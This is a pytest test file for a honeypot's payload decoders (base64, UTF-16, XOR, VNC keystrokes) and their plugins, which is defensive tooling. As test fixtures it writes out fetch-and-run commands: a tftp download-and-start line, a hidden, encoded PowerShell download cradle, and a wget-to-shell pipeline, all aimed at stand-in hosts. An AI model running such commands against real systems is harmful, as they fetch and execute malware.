"""Decoders (honeytrap/decode.py) and the decoder plugins b64Decode, deUnicode, xmatch and
vncDownload, run through the real plugin loader and pipeline."""

from __future__ import annotations

import base64
import os
import struct
import threading
import types

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pipeline_run import attack_of, process

from honeytrap import decode
from honeytrap.attack import Attack
from honeytrap.config import Config, PluginSpec
from honeytrap.errors import ConfigError, PluginError
from honeytrap.plugin import LoadedPlugin, load_plugins

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
PLUGIN_DIR = os.path.join(ROOT, "plugins")
XMATCH_DATA = os.path.join(ROOT, "tests", "data", "xmatch")

COMMAND = b"cmd /c tftp -i 198.18.0.1 GET x.exe & start x.exe"


# ---------------------------------------------------------------------------------------------
# helpers: run attacks through the real loader and pipeline, and see every attack a hook saw


class Seen:
    """A last plugin that records every attack reaching ANALYZE (roots and virtuals)."""

    def __init__(self) -> None:
        self.attacks: list[Attack] = []
        self.lock = threading.Lock()

    def analyze(self, attack: Attack) -> None:
        with self.lock:
            self.attacks.append(attack)

    def virtuals(self) -> list[Attack]:
        with self.lock:
            return [a for a in self.attacks if a.is_virtual]



def run(plugins: list[PluginSpec], payload: bytes) -> tuple[Attack, Seen]:
    registry = load_plugins(Config(plugin_dir=PLUGIN_DIR, plugins=plugins))
    seen = Seen()
    registry.register(LoadedPlugin("Seen", types.ModuleType("seen"), seen))
    return process(registry, attack_of(payload)), seen


def spec(name: str, **options: str | list[str]) -> PluginSpec:
    return PluginSpec(name, dict(options))  # type: ignore[arg-type]


def key_event(keysym: int, down: bool) -> bytes:
    return struct.pack(">BBHI", 4, int(down), 0, keysym)


def typed(text: str) -> bytes:
    return b"".join(key_event(ord(c), True) + key_event(ord(c), False) for c in text)


def vnc_session(text: str) -> bytes:
    """A bot's session: RFB 3.8, security None, ClientInit, encodings, Win+R, typed text."""
    encodings = struct.pack(">BBH", 2, 0, 2) + struct.pack(">ii", 0, 1)
    win_r = key_event(0xFFEB, True) + typed("r") + key_event(0xFFEB, False)
    enter = key_event(0xFF0D, True) + key_event(0xFF0D, False)
    return b"RFB 003.008\n" + b"\x01" + b"\x01" + encodings + win_r + typed(text) + enter


# ---------------------------------------------------------------------------------------------
# base64


def test_base64_after_negotiate_is_decoded() -> None:
    token = base64.b64encode(COMMAND)
    found = decode.find_base64(b"GET / HTTP/1.1\r\nAuthorization: Negotiate " + token + b"\r\n")
    assert [d.data for d in found] == [COMMAND]


def test_powershell_encoded_command_is_utf16_decoded() -> None:
    script = "IEX (New-Object Net.WebClient).DownloadString('http://198.18.0.1/p.ps1')"
    token = base64.b64encode(script.encode("utf-16-le"))
    for flag in (b"-enc", b"-EncodedCommand", b"-e", b"-ec", b"/enc"):
        found = decode.find_base64(b"powershell.exe -nop -w hidden " + flag + b" " + token)
        assert [d.data for d in found] == [script.encode()], flag


def test_echo_pipe_base64_is_decoded() -> None:
    token = base64.b64encode(b"wget http://198.18.0.1/bot -O /tmp/b")
    found = decode.find_base64(b"echo '" + token + b"' | base64 -d | sh")
    assert [d.data for d in found] == [b"wget http://198.18.0.1/bot -O /tmp/b"]


def test_data_uri_is_decoded() -> None:
    token = base64.b64encode(b"<script>evil()</script>")
    found = decode.find_base64(b'<iframe src="data:text/html;charset=utf-8;base64,' + token + b'">')
    assert [d.data for d in found] == [b"<script>evil()</script>"]


def test_missing_padding_is_forgiven() -> None:
    token = base64.b64encode(b"abcdefghij").rstrip(b"=")
    assert decode.find_base64(b"Negotiate " + token)[0].data == b"abcdefghij"


def test_plain_text_has_no_base64() -> None:
    assert decode.find_base64(b"GET /index.html HTTP/1.1\r\nHost: example\r\n\r\n") == []


def test_base64_results_are_bounded() -> None:
    tokens = b" ".join(b"Negotiate " + base64.b64encode(b"payload %d" % i) for i in range(50))
    assert len(decode.find_base64(tokens)) == decode.MAX_BASE64_RESULTS


def test_same_token_twice_is_one_result() -> None:
    token = base64.b64encode(COMMAND)
    assert len(decode.find_base64(b"Negotiate " + token + b" Negotiate " + token)) == 1


def test_token_starting_in_the_scan_window_is_read_to_its_end() -> None:
    blob = bytes(range(256)) * 8192  # 2 MiB: its base64 runs past MAX_BASE64_SCAN
    payload = b"x" * (decode.MAX_BASE64_SCAN - 100) + b"Negotiate " + base64.b64encode(blob)
    assert [d.data for d in decode.find_base64(payload)] == [blob]


def test_carrier_past_the_scan_window_is_not_searched() -> None:
    payload = b"x" * decode.MAX_BASE64_SCAN + b"Negotiate " + base64.b64encode(COMMAND)
    assert decode.find_base64(payload) == []


# ---------------------------------------------------------------------------------------------
# UTF-16


def test_utf16_runs_are_narrowed_and_the_rest_kept() -> None:
    found = decode.narrow_utf16(b"\x01\x02" + COMMAND.decode().encode("utf-16-le") + b"\xff")
    assert [d.data for d in found] == [b"\x01\x02" + COMMAND + b"\xff"]


def test_short_utf16_runs_are_left_alone() -> None:
    assert decode.narrow_utf16(b"xx" + "abc".encode("utf-16-le") + b"yy") == []


# ---------------------------------------------------------------------------------------------
# executables


def test_elf_binary_is_recognised() -> None:
    with open("/bin/true", "rb") as handle:
        kind = decode.executable_kind(handle.read())
    assert kind is not None and kind.startswith("ELF")


def test_mz_without_pe_header_is_not_an_executable() -> None:
    assert decode.executable_kind(b"MZ" + b"\0" * 200) is None


# ---------------------------------------------------------------------------------------------
# XOR


@pytest.mark.parametrize("key", [b"\x5a", b"\x13\x37", b"\xde\xad\xbe\xef", bytes(range(1, 13))])
def test_xor_key_is_recovered(key: bytes) -> None:
    """Keys up to half a pattern's length are found (as in the original)."""
    plain = b"\x90" * 37 + b"GET http://198.18.0.1/x.exe HTTP/1.0\r\n" + bytes(range(64))
    patterns = [b"http://", b"GET http://198.18.0.1/x.exe"]
    found = decode.xor_search(decode.xor_with(plain, key), patterns)
    assert found and found[0].key == key and found[0].data == plain


def test_clear_text_is_not_an_xor_finding() -> None:
    assert decode.xor_search(b"junk http://198.18.0.1/ junk", [b"http://"]) == []


def test_clear_copy_before_an_encoded_one_is_skipped() -> None:
    plain = b"see http://198.18.0.1/a and more"
    payload = plain + decode.xor_with(plain, b"\x42")
    found = decode.xor_search(payload, [b"http://"])
    assert [m.key for m in found] == [b"\x42"]


def test_pattern_file_in_the_original_format_is_read() -> None:
    with open(os.path.join(XMATCH_DATA, "patterns"), "rb") as handle:
        assert decode.parse_xpatterns(handle.read()) == [b"http://", b"tftp -i "]


def test_malformed_pattern_file_names_the_line() -> None:
    with open(os.path.join(XMATCH_DATA, "malformed"), "rb") as handle:
        with pytest.raises(ConfigError) as info:
            decode.parse_xpatterns(handle.read(), "malformed")
    assert info.value.line == 2


# ---------------------------------------------------------------------------------------------
# VNC


def test_vnc_typed_text_is_read_without_the_shortcut_key() -> None:
    found = decode.vnc_keystrokes(vnc_session("cmd /c wget http://www.example/aa.exe"))
    assert [d.data for d in found] == [b"cmd /c wget http://www.example/aa.exe\n"]


def test_vnc_backspace_and_paste() -> None:
    paste = struct.pack(">B3xI", 6, 5) + b"world"
    session = b"RFB 003.008\n\x01\x01" + typed("hellp") + key_event(0xFF08, True)
    session += typed("o ") + paste
    assert decode.vnc_keystrokes(session)[0].data == b"hello world"


def test_vnc_with_vnc_authentication() -> None:
    session = b"RFB 003.008\n\x02" + bytes(range(16, 32)) + b"\x01" + typed("calc.exe")
    assert decode.vnc_keystrokes(session)[0].data == b"calc.exe"


def test_vnc_junk_is_given_up_on() -> None:
    session = b"RFB 003.008\n" + b"\x02" * (2 * decode.MAX_VNC_RESYNC) + typed("calc")
    assert decode.vnc_keystrokes(session) == []


def test_not_a_vnc_session() -> None:
    assert decode.vnc_keystrokes(b"GET / HTTP/1.0\r\n" + typed("calc")) == []


# ---------------------------------------------------------------------------------------------
# fuzz: arbitrary bytes give a list, never an exception

DECODERS = [
    decode.find_base64,
    decode.narrow_utf16,
    decode.vnc_keystrokes,
    lambda data: decode.xor_search(data, [b"http://", b"cmd.exe"]),
]


@pytest.mark.parametrize("decoder", DECODERS)
@given(data=st.binary(max_size=4096))
@settings(max_examples=300, deadline=None)
def test_decoders_never_raise(decoder: object, data: bytes) -> None:
    assert isinstance(decoder(data), list)  # type: ignore[operator]


@given(
    data=st.lists(
        st.sampled_from([b"Negotiate ", b"-enc ", b"echo ", b" | base64 -d", b"data:;base64,",
                         b"QUJD", b"==", b"\0", b"RFB 003.008\n", b"\x04\x01\0\0", b"MZ", b"PE\0\0",
                         b"\x7fELF", b"a\0"]),
        max_size=40,
    ).map(b"".join)
)
@settings(max_examples=300, deadline=None)
def test_decoders_never_raise_on_carrier_soup(data: bytes) -> None:
    for decoder in DECODERS:
        assert isinstance(decoder(data), list)  # type: ignore[operator]
    decode.executable_kind(data)


@given(data=st.binary(max_size=512))
@settings(max_examples=300, deadline=None)
def test_executable_kind_never_raises(data: bytes) -> None:
    for magic in (b"MZ", b"\x7fELF"):
        kind = decode.executable_kind(magic + data)
        assert kind is None or isinstance(kind, str)


@given(text=st.binary(max_size=2048))
@settings(max_examples=300, deadline=None)
def test_pattern_file_parser_gives_patterns_or_config_error(text: bytes) -> None:
    try:
        assert isinstance(decode.parse_xpatterns(text), list)
    except ConfigError:
        pass


# ---------------------------------------------------------------------------------------------
# the plugins, loaded by the real loader and run through the pipeline


def test_b64decode_virtual_attack_runs_every_hook() -> None:
    token = base64.b64encode(COMMAND)
    root, seen = run([spec("b64Decode")], b"Authorization: Negotiate " + token + b"\r\n")
    virtuals = seen.virtuals()
    assert [v.payload for v in virtuals] == [COMMAND]
    assert virtuals[0].is_virtual and virtuals[0].parent is root
    assert any(n.startswith("b64Decode:") for n in root.notes)


def test_virtual_attack_precedes_its_root_in_analyze() -> None:
    root, seen = run([spec("b64Decode")], b"Negotiate " + base64.b64encode(COMMAND))
    assert [a.is_virtual for a in seen.attacks] == [True, False]


def test_decoders_chain_utf16_inside_base64() -> None:
    wide = COMMAND.decode().encode("utf-16-le")
    root, seen = run([spec("b64Decode"), spec("deUnicode")], b"Negotiate " + base64.b64encode(wide))
    assert COMMAND in [v.payload for v in seen.virtuals()]
    assert any(v.parent is not None and v.parent.is_virtual for v in seen.virtuals())


def test_deunicode_plugin_narrows() -> None:
    root, seen = run([spec("deUnicode")], COMMAND.decode().encode("utf-16-le"))
    assert [v.payload for v in seen.virtuals()] == [COMMAND]


def test_xmatch_plugin_with_pattern_file() -> None:
    payload = b"\xeb\x10" + decode.xor_with(b"..." + COMMAND, b"\x99")
    root, seen = run([spec("xmatch", xpattern_file=os.path.join(XMATCH_DATA, "patterns"))], payload)
    (virtual,) = seen.virtuals()
    assert COMMAND in virtual.payload
    assert any("XOR key 99" in n for n in root.notes)


def test_xmatch_plugin_with_inline_patterns() -> None:
    payload = decode.xor_with(b"xx wget http://198.18.0.1/bot", b"\x01\x02")
    root, seen = run([spec("xmatch", pattern=["wget http"])], payload)
    assert [v.payload for v in seen.virtuals()] == [b"xx wget http://198.18.0.1/bot"]


def test_xmatch_refuses_a_malformed_pattern_file() -> None:
    with pytest.raises(PluginError):
        run([spec("xmatch", xpattern_file=os.path.join(XMATCH_DATA, "malformed"))], b"")


def test_vncdownload_plugin_yields_the_typed_command() -> None:
    root, seen = run([spec("vncDownload")], vnc_session("tftp -i 198.18.0.1 GET x.exe"))
    assert [v.payload for v in seen.virtuals()] == [b"tftp -i 198.18.0.1 GET x.exe\n"]


def test_plain_payload_yields_no_virtual_attack() -> None:
    plugins = [spec("b64Decode"), spec("deUnicode"), spec("xmatch"), spec("vncDownload")]
    root, seen = run(plugins, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
    assert seen.virtuals() == [] and root.notes == []


@pytest.mark.parametrize("payload", [b"", b"\0" * 1000])
def test_empty_and_nul_payloads_pass_quietly(payload: bytes) -> None:
    plugins = [spec("b64Decode"), spec("deUnicode"), spec("xmatch"), spec("vncDownload")]
    root, seen = run(plugins, payload)
    assert seen.virtuals() == []


def test_vnc_typed_command_reaches_the_downloaders() -> None:
    """The typed tftp line is parsed by tftpDownload; the policy refuses the non-global host,
    and the refused try is on the root attack (no traffic is sent)."""
    plugins = [spec("vncDownload"), spec("tftpDownload")]
    root, seen = run(plugins, vnc_session("tftp -i 198.18.0.1 GET x.exe"))
    assert [(t.type, t.host, t.outcome) for t in root.download_tries] == [
        ("tftp", "198.18.0.1", "refused")
    ]


def test_powershell_download_cradle_reaches_the_downloaders() -> None:
    script = "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:8080/p.ps1')"
    payload = b"powershell -enc " + base64.b64encode(script.encode("utf-16-le"))
    root, seen = run([spec("b64Decode"), spec("httpDownload")], payload)
    assert [(t.type, t.outcome) for t in root.download_tries] == [("http", "refused")]
